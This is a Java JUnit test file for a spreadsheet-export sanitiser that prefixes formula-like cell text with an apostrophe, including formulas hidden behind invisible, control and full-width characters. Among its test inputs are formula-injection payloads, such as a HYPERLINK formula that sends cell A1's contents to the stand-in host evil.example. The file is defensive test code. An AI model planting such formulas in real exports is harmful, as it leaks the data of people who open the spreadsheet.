package dimple.infrastructure.shared.export;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetSafeTest {
    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "=HYPERLINK(\"http://evil.example\",\"click\")", "+41 44 000", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
            "=", "+", "-", "@", "\tplain text after a tab", "\rplain text after a carriage return"})
    void cell_textASpreadsheetCouldReadAsAFormula_getsALeadingApostrophe(String text) {
        assertThat(SpreadsheetSafe.cell(text)).isEqualTo("'" + text);
    }

    /** A formula behind characters nobody sees: spreadsheets and their libraries drop or trim those, and the formula leads. */
    @ParameterizedTest
    @ValueSource(strings = {
            "\u0000=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", // NUL
            "\u0000\u0000\u0000+1", // several NULs
            "\u0001@SUM(A1)", "\u001F-1+2", "\u007F=1", "\u0085=1", // other C0 and C1 controls
            "\n=1+1", "\u000B=1", "\f=1", "\n\r\t=1", // line feed, vertical tab, form feed, mixed
            " =1+1", "   =1+1", "\u00A0=1+1", "\u2007=1", "\u202F+1", "\u3000=1", "\u2028=1", "\u2029=1", // spaces and separators
            "\u200B=1+1", "\u200C=1", "\u200D=1", "\u200E=1", "\u200F-1", "\u202E=1", "\u2060=1", "\u2066@x", "\uFEFF=1", "\u00AD=1",
            "\u061C=1", "\u180E=1", // format characters: zero-width, direction marks and overrides, word joiner, BOM, soft hyphen
            "\u034F=1", "\u115F=1", "\u3164=1", "\uFFA0=1", "\uFE0F=1", "\u2800=1", "\uDB40\uDD00=1", // fillers and selectors
            "\uE000=1", "\u0378=1", "\uDB40\uDC01=1", // private use, unassigned, a tag character
            "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)", "\uFE661", " \uFF1D1", // full-width and small forms
            "\u0000 \u200B\u00A0\n=1"}) // all at once
    void cell_formulaBehindInvisibleCharacters_getsALeadingApostropheToo(String text) {
        assertThat(SpreadsheetSafe.cell(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Card terminal time-outs", "2026-11-23", "'=already text", "a=b", "100%", "Zoë \uD83D\uDE42",
            "\u0000plain after a NUL", " a space then words", "\u200Bzero-width then words", "\u2212 1 (a minus sign, not a hyphen)",
            "\u00A0\u00A0", "\u0000", "#1 on the list", "(=1)", "\"=1\""})
    void cell_anythingElse_isKeptExactlyAsWritten(String text) {
        assertThat(SpreadsheetSafe.cell(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @CsvSource(value = {"NULL, ''", "'', ''"}, nullValues = "NULL")
    void cell_nothing_isAnEmptyCell(String text, String expected) {
        assertThat(SpreadsheetSafe.cell(text)).isEqualTo(expected);
    }
}
